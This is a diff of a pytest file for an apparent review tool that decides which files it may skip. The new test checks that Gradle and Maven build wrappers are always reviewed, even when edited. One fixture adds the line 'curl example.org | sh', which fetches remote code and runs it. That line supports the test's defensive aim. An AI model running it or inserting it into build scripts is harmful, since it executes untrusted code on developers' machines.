@@ -145,7 +145,7 @@ def test_vendored_code_is_skipped_if_the_base_has_it(path: str, directory: str) 
     "path",
     """
     api/user.pb.go api/user_pb2.py api/user_pb2_grpc.py lib/user.g.dart Form1.Designer.cs
-    src/__snapshots__/App.test.tsx.snap app.js.map k8s/zz_generated.deepcopy.go gradlew .pnp.cjs
+    src/__snapshots__/App.test.tsx.snap app.js.map k8s/zz_generated.deepcopy.go
     src/__generated__/Query.graphql.ts
     """.split(),  # noqa: SIM905 - as above
 )
@@ -153,6 +153,19 @@ def test_generated_names_are_skipped_if_the_base_has_them(path: str) -> None:
     assert reason(path) == "Generated: its name says so."
     assert unread_reason(new(path)) == "New, and generated: its name says so."
     assert reason_of_rename("src/own.py", path) is None
+
+
+@pytest.mark.parametrize("name", ["gradlew", "gradlew.bat", "app/mvnw", "mvnw.cmd"])
+def test_a_script_that_builds_run_is_never_skipped_for_its_name(name: str) -> None:
+    expected = "Build wrapper: a tool writes it, but each build runs it."
+    assert unread_reason(new(name)) == expected
+    assert unread_reason(edited(name, " #!/bin/sh", "+curl example.org | sh")) == expected
+    assert reason_of_rename("src/own.sh", name) is None
+    generated = Policy(attributes=git_attributes(f"{name} linguist-generated"))
+    assert skip_reason(edited(name, "+x"), generated) == "Generated: .gitattributes says so."
+    own = Policy(attributes=git_attributes(f"{name} -linguist-generated"))
+    assert exclusion(edited(name, "+x"), own) is None
+    assert exclusion(edited(name, "+x"), Policy(path_patterns([f"!{name}"]))) is None
 
 
 def test_build_output_and_minified_names_are_skipped_if_the_base_has_them() -> None:
